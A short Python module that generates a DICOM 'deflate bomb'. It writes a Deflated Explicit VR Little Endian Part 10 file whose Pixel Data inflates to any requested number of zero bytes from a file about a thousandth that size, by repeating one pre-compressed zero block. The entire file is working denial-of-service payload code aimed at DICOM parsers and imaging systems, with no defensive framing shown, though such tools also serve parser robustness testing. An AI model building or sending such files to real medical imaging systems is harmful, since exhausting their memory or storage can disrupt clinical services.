"""A deflate bomb: a Deflated Explicit VR Little Endian (1.2.840.10008.1.2.1.99) Part 10
file of about a MiB per GiB whose Pixel Data inflates to as many zero bytes as asked.
The zeros are deflated once, 16 MiB after a full flush (which resets the compressor),
and that block is repeated: quick to make, and never holding the inflated data."""

import struct
import zlib

DEFLATED = b"1.2.840.10008.1.2.1.99"
LONG_VRS = {b"OB", b"OW", b"SQ", b"UN", b"UT"}


def element(group, number, vr, value):
    if len(value) % 2:
        value += b"\0" if vr in (b"UI", b"OB") else b" "
    if vr in LONG_VRS:
        return struct.pack("<HH2sHI", group, number, vr, 0, len(value)) + value
    return struct.pack("<HH2sH", group, number, vr, len(value)) + value


def deflate_bomb(inflated_bytes, uid_root, patient_id="BOMB"):
    """Study, series and SOP UIDs are uid_root + .1, .2, .3."""
    sop = (uid_root + ".3").encode()
    meta = (element(0x0002, 0x0001, b"OB", b"\0\1") +
            element(0x0002, 0x0002, b"UI", b"1.2.840.10008.5.1.4.1.1.7") +
            element(0x0002, 0x0003, b"UI", sop) +
            element(0x0002, 0x0010, b"UI", DEFLATED) +
            element(0x0002, 0x0012, b"UI", b"1.2.3.4"))
    head = (b"\0" * 128 + b"DICM" + element(0x0002, 0x0000, b"UL", struct.pack("<I", len(meta))) +
            meta)
    dataset = (element(0x0008, 0x0016, b"UI", b"1.2.840.10008.5.1.4.1.1.7") +
               element(0x0008, 0x0018, b"UI", sop) +
               element(0x0010, 0x0020, b"LO", patient_id.encode()) +
               element(0x0020, 0x000D, b"UI", (uid_root + ".1").encode()) +
               element(0x0020, 0x000E, b"UI", (uid_root + ".2").encode()) +
               struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OB", 0, inflated_bytes))
    block_bytes = 1 << 24
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = zeros.compress(bytes(block_bytes)) + zeros.flush(zlib.Z_FULL_FLUSH)
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [head, deflater.compress(dataset), deflater.flush(zlib.Z_FULL_FLUSH)]
    parts.extend([block] * (inflated_bytes // block_bytes))
    parts.append(deflater.compress(bytes(inflated_bytes % block_bytes)) + deflater.flush())
    return b"".join(parts)
